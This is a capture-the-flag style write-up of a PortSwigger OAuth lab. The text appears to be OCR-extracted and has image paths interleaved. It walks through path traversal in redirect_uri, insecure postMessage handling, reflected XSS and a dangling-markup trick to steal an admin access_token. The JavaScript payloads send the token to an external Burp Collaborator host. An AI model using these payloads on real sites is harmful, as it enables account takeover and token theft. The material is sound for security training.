Web Security Academy : Going deep on OAuth labs and a beautiful unintended solution

PortSwigger provides some labs that is constantly updated and I like to use it to improve my web hacking skills.

Recently they released a whole new set of labs on OAuth Authentication, I solved each one, learned new things, and ended up with a interesting unintended solution for the "Expert" lab that I want to share back to the community.

This lab is a simple blogging system that allows users to login with their social network.

The admin will open every link you send. So we need to craft a one-clickaccount takeover exploit to access the admin API key.

The intended solution

After analyzing the social media authentication request you will notice a redirect_uri parameter pointing to the oauth callback URL. This is where the system will redirect after confirming the authentication and it will append the current session access_token as URL fragment on client-side browser.


In some cases you can directly change the redirect_uri pointing to your own server leaking the access_token.


But not in this case..

There's a whitelist of redirect_uris and the URL must include the substring:


Path traversal

The whitelist forces the redirection to be fixed on this host, but not on this path, because this whitelist is vulnerable to a Path Traversal.


Will be interpreted as:Knowing this, we can redirect the callback to everywhere on this host, but where we can redirect to leak their access_token?

Insecure web messaging scriptsAfter a enumeration I found some insecure web messaging scripts that create a Post Message with the data="window.location.href" when the page loads pointing to a parent listener trusting on *.

Parent Post Message trigger trusting on *

Following the Post Message content, triggered on page load.

Post message Event Listener on a comment box.

This is a perfect gadget to us, because window.location.href includes the URL fragment and the post message will propagate to every parent listener.

So, the main idea is:

  • Create a malicious web page w/ our own listener redirecting the event data to a external server;
  • Include a IFRAME to load the Callback redirecting to a Path Traversal /oauth-callback/../post/comment/comment-form where the post message trigger are stored;
  • The post message will be sent to our parent listener and the listener will dump the event data to our external server using a JS location redir.

My final payload

The expected payload to solve this lab.

window.addEventListener('message', function(e){
  var myJSON = JSON.stringify(e.data);

<iframe id="aaaa" src="https://ac6d1f1f1e9462a380ec24ee02f500e3.web-security-academy.net/auth?client_id=pfx6adz3dqzlgebroh99o&redirect_uri=https://acd01fa21eb0624f806f2427008a0072.web-security-academy.net/oauth-callback/../post/comment/comment-form&response_type=token&nonce=1679470272&scope=openid%20profile%20email" onload="this.contentWindow.postMessage('intrd'),'*')">

Hosting this on a malicious web page and sending to user will leak the access_token.

And finally with this Bearer session token we can authenticate as admin, extract their APIKEY.

And submit the solution.

The unintended solution

Well, the original solution depends on this Web Message scripts.

What if there's no Web Message scripts?

So, If you enumerate this OpenID authentication server a little more you will find the OpenID Connect configuration values from the provider's Well-Known Configuration Endpoint, per the specification (http://openid.net/specs/openid-connect-discovery-1_0.html#ProviderConfigurationRequest).The /.well-known/openid-configuration will leak all OpenID endpoints and accepted parameters.

As we know, the default response_mode is fragment, its not included on the request but you can add the parameter and get the normal redirect callback+fragments response.

Now following this OpenID configuration I noticed that we are also allowed to set form_post,fragment and query modes.

And the form_post mode will return a HTML page with a auto-submit form that includes a hidden access_token input.

You can also change the response_type to id_token token, it will return afull JWT token, useful in some cases.

HTML Injection

The same way this endpoint are vulnerable to Path Traversal, it is also vulnerable to HTML Injection.

I noticed that you can break the "> and reflect everything the callback response page, there's no filtering.

With the following payload you are able to trigger a perfect reflected XSS, and it will be processed before the callback auto-form post.


Now we have a XSS executed directly on a page containing the access_token.

We just need to find a way to dump this page content to a external server.

Trying to redirect the document.body.innerHTML to a external serverThis is the most simple way to read a page content from a XSS bypassing CORS, and the first thing to came in my mind.


The redirection works, the XSS read the document.body.innerHTML URIencode and send to a external server as a parameter.

But because the synchronous nature of Javascript the page content breaks on the exact point that script is executed closing the </form> and ignoring the rest of the page, also ignoring the access_token input value.

Taking advantage of callback auto-submit form to submit a dangling form input as a new comment

This one was cool, the main idea is:

  • Use this auto-submit form generated by OpenID callback pointing to a Path traversal /oauth-callback/../post/comment
  • This will submit a new comment on the blog comment box
  • And I will use a dangling <textarea> to read the rest of the page, including the access_token input and set it as comment input value.

Pay attention on that dangling <textarea> that never closes,this will send the rest of the form as comment parameter.

Crazy idea?

It works like a charm, commented the victim access_token.

But there's a problem here, our payload has a hardcoded CSRF token and the victim session(admin) will have a different CSRF token, so we need to leak this CSRF token first and then do the post.

This sounds possible, but i've found a better way.

Asynchronous fetching the entire callback pageWe already are controlling the client-side browsing why not force the client to do another callback redirect and then fetch the full response using JavaScript Fetch API?


const url ='https://acdd1f011f7a275781d61e6c02b8005e.web-security-academy.net/auth?client_id=wt8e823bklnuhof8cekfj&redirect_uri=https://ac7b1fca1f9e271c81e31e7e00c30051.web-security-academy.net/oauth-callback&response_type=token&nonce=381190702&scope=openid%20profile%20email&response_mode=form_post';
const intrd_collab = 'https://n6uuiwrk5slgrssutx5rgpuwtnzgn5.burpcollaborator.net';

const request = async () => {
    const response = await fetch(url);
    const dump = await response.text();
    new Image().src=intrd_collab+'/?dump='+encodeURIComponent(dump);

</script><input "hidden" name="xxx" value="

The idea here is:

  • Change the OpenID response_mode to form_post, returning a auto-submit callback page;
  • Use theXSS to execute a async fetch JS to the response;
  • This will do a new GET request to the callback and stores the full response into a variable;
  • URIencode this variable as a parameter and create a new Image() that point the src to a external server.

This way you can read the entire callback page content and the new Image() trick will bypass the CORS.

Final Payload (unintended way)

Putting all the things together.


When the authenticated victim clicks on the malicious link..

The entire callback page including the access_token will be leaked to our controlled server as a encoded parameter.

And we can use the session tokento retrieve the API token. :)

Bonus: Another XSS

The blog post endpoint/post?postId=9&uly0j'><script>alert(1)</script>aaaa=1 will also works to trigger the XSS and I believe that it can be used to find another waysto leak the access_token.